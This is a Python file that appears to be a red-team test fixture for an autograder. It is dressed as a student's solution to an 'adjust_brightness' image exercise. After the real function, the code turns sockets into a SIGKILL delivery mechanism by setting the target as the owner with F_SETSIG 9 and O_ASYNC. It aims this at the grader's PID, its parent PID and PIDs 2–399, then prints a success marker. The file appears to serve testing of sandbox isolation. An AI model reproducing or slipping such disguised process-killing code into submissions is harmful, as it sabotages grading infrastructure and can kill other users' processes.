"""Has the kernel send signals to every process of the user, as the owner of a descriptor that becomes ready.

exercise: 01-images-as-data/adjust_brightness
points: 3
must: redteam: sent
"""
import fcntl
import os
import socket
import struct

import numpy as np


def adjust_brightness(image, amount):
    return np.clip(image + amount, 0, 1)


F_SETSIG, FIOSETOWN, SIOCSPGRP = 10, 0x8901, 0x8902
for pid in [__GRADER_PID__, os.getppid(), *range(2, 400)]:
    if pid == os.getpid():
        continue
    for way in range(3):
        ours, theirs = socket.socketpair()
        try:
            if way == 0:
                fcntl.fcntl(ours, fcntl.F_SETOWN, pid)
            else:
                fcntl.ioctl(ours, (FIOSETOWN, SIOCSPGRP)[way - 1], struct.pack("i", pid))
            fcntl.fcntl(ours, F_SETSIG, 9)
            fcntl.fcntl(ours, fcntl.F_SETFL, fcntl.fcntl(ours, fcntl.F_GETFL) | os.O_ASYNC)
            theirs.send(b"x")
        except (OSError, ValueError):
            pass
        finally:
            ours.close()
            theirs.close()
print("redteam: sent")
